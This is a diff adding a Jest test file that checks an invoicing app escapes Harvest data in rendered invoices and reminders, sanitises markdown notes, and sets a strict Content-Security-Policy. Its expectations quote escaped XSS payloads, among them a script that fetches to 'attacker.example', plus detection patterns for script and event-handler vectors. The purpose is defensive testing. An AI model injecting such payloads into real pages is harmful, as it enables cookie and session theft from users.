@@ -0,0 +1,50 @@
+const dayjs = require('dayjs');
+const fixture = require('./fixtures/malicious-invoice.json');
+const clientProfiles = require('../src/config/clients');
+const dataMapper = require('../src/domain/mapping');
+const renderer = require('../src/render/render');
+
+describe('HTML injection', () => {
+  beforeEach(() => {
+    clientProfiles.profiles = {};
+  });
+
+  afterEach(() => {
+    clientProfiles.profiles = null;
+  });
+
+  test('should escape Harvest fields in every document template', async () => {
+    const invoice = dataMapper.mapInvoiceFromHarvest(fixture.invoice, fixture.client);
+    const reminder = dataMapper.mapReminderFromHarvest(fixture.invoice, fixture.client, {
+      asOf: dayjs('2024-08-01'),
+    });
+
+    for (const document of [invoice, reminder]) {
+      const html = await renderer.compileTemplate(document, '');
+
+      expect(html).not.toMatch(/<script|<svg onload|<img|<iframe|javascript:/i);
+      expect(html).toContain('&lt;script&gt;fetch(&#x27;https://attacker.example/?c&#x3D;&#x27;');
+      expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;&quot;alert(1)&quot;&gt;<br />');
+      expect(html).toContain('2024-066&quot;&gt;&lt;svg onload&#x3D;alert(1)&gt;');
+    }
+  });
+
+  test('should reduce markdown notes to allow-listed HTML', () => {
+    const html = renderer.processMarkdown(fixture.invoice.notes);
+
+    expect(html).toContain('<strong>project</strong>');
+    expect(html).toContain('<a href="https://example.com">our site</a>');
+    expect(html).toContain('<a href="https://example.com">link</a>');
+    expect(html).toContain('<a>click me</a>');
+    expect(html).not.toMatch(/<img|<iframe|<style|onerror|onclick|javascript:|attacker/i);
+  });
+
+  test('should forbid scripts and remote content in the rendered page', async () => {
+    const invoice = dataMapper.mapInvoiceFromHarvest(fixture.invoice, fixture.client);
+    const html = await renderer.compileTemplate(invoice, '');
+
+    expect(html).toContain(
+      "content=\"default-src 'none'; style-src 'unsafe-inline'; font-src data:; img-src data:\""
+    );
+  });
+});